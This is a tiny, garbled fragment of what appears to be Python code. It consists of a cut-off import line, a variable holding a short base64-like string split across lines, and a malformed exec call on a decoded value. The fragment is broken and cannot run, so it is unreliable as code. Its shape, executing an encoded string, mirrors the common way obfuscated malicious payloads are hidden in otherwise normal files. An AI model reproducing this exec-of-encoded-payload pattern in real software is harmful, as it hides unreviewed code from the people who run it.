impo4

PAD = "aW)
tZ=="
exec(basD))
